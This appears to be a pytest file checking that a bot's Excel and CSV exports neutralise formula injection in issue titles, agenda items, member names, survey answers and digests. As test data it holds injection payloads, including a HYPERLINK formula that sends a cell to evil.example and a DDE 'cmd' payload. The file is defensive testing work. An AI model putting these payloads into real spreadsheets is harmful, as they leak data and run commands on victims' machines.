"""Exports are inert: what members type reaches a lead's spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from openpyxl import load_workbook

from bot.app import App
from bot.i18n import Translator
from bot.services import sheets
from bot.services.escalation.digest import Digest, GapLine, UnitName, digest_csv
from bot.services.forums.invites import forum_by_code
from tests.helpers import console_sender, import_demo, make_invite, register
from tests.keshet_helpers import partnership
from tests.test_agenda import SCHOOL, press, propose, raise_issue, set_meeting
from tests.test_agenda_exports import export_in_chat
from tests.test_surveys import answer_mapping, send_mapping

LEAK = '=HYPERLINK("http://evil.example/?leak="&C3,"details")'
SUM = "=1+2"
CMD = "+cmd|' /C calc'!A0"
AT = "@SUM(A1:A9)"
NAME = '=HYPERLINK("http://evil.example/","אבי")'
PAYLOADS = (LEAK, SUM, CMD, AT)


def xlsx_cells(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not cell.value.startswith(sheets.TRIGGERS), f"{cell.coordinate}: {cell.value!r}"
    return [[c.value for c in row] for row in sheet.iter_rows()]


def csv_cells(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows:
        for value in row:
            assert not value.startswith(sheets.TRIGGERS), value
    return rows


def flat(rows: list[list[object]] | list[list[str]]) -> set[object]:
    return {v for row in rows for v in row}


def test_the_rule() -> None:
    for payload in (*PAYLOADS, "-5", "\t=1", "\r=1", "\u200f=1+2", " =1", "＝1+2"):
        assert sheets.inert(payload) == "'" + payload
    for safe in ("אין הסעה", "Dana", "5", "2026-12-01", "", "a=b", "'already"):
        assert sheets.inert(safe) == safe
    assert sheets.cell_value(-3) == -3  # numbers the export computes stay numbers
    assert sheets.as_text(None) == ""


async def test_issue_titles_agenda_items_and_names_are_text_in_every_export(app: App) -> None:
    await import_demo(app)
    dana = await register(app, "dana", await make_invite(app, SCHOOL, "principal"), form="f", display="דנה לוי")
    avi = await register(app, "avi", await make_invite(app, SCHOOL, "parent"), form="m", display=NAME)
    await set_meeting(dana)
    for payload in PAYLOADS:
        await propose(avi, payload, CMD)
        await press(dana, "אישור")
        await raise_issue(avi, payload, show="name")

    _, issues_xlsx = await export_in_chat(app, "פערים שהועלו", "Excel (xlsx)")
    cells = flat(xlsx_cells(issues_xlsx))
    for payload in PAYLOADS:
        assert "'" + payload in cells
    assert any(isinstance(v, str) and v.startswith("'" + NAME) for v in cells)  # "'=HYPERLINK(…) (הורה)"

    _, issues_csv = await export_in_chat(app, "פערים שהועלו", "CSV")
    cells = flat(csv_cells(issues_csv))
    assert {"'" + p for p in PAYLOADS} <= cells

    _, agenda_xlsx = await export_in_chat(app, "נושאים לסדר היום", "Excel (xlsx)")
    cells = flat(xlsx_cells(agenda_xlsx))
    assert {"'" + p for p in PAYLOADS} <= cells and any(str(v).startswith("'" + NAME) for v in cells)
    _, agenda_csv = await export_in_chat(app, "נושאים לסדר היום", "CSV")
    assert {"'" + p for p in PAYLOADS} <= flat(csv_cells(agenda_csv))

    _, decisions_xlsx = await export_in_chat(app, "החלטות", "Excel (xlsx)")
    xlsx_cells(decisions_xlsx)


async def test_survey_answers_are_text_in_both_formats(app: App) -> None:
    users = await partnership(app)
    lead, business = users["public"], users["business"]
    await send_mapping(lead)
    await answer_mapping(business, importance="4", text=LEAK)
    await lead.text_of("/surveys")
    await press(lead, "תוצאות: מיפוי עירוני")
    await press(lead, "ייצוא CSV")
    _, data = console_sender(app).files[-1]
    assert "'" + LEAK in flat(csv_cells(data))
    await press(lead, "ייצוא לאקסל")
    _, data = console_sender(app).files[-1]
    cells = flat(xlsx_cells(data))
    assert "'" + LEAK in cells and "4" in cells


async def test_the_digest_csv_is_inert(app: App) -> None:
    await import_demo(app)
    async with app.db.sessions() as session:
        forum = await forum_by_code(session, SCHOOL)
        await session.refresh(forum, ["org_unit"])
        at = datetime(2026, 11, 22, 7, tzinfo=UTC)
        gaps = [
            GapLine(id=n, forum_id=forum.id, kind="need", category=None, title=p, status="open", arrived_at=at,
                    first_digest_at=None, owner_role=None, origins=[1])
            for n, p in enumerate(PAYLOADS, 1)
        ]
        units = {1: UnitName(name=CMD, name_en=None, tier="school")}
        data = digest_csv(Translator("he"), forum, Digest(forum.id, at, gaps[:2], gaps[2:]), units, at)
    cells = flat(csv_cells(data))
    assert {"'" + p for p in PAYLOADS} <= cells and "'" + CMD in cells
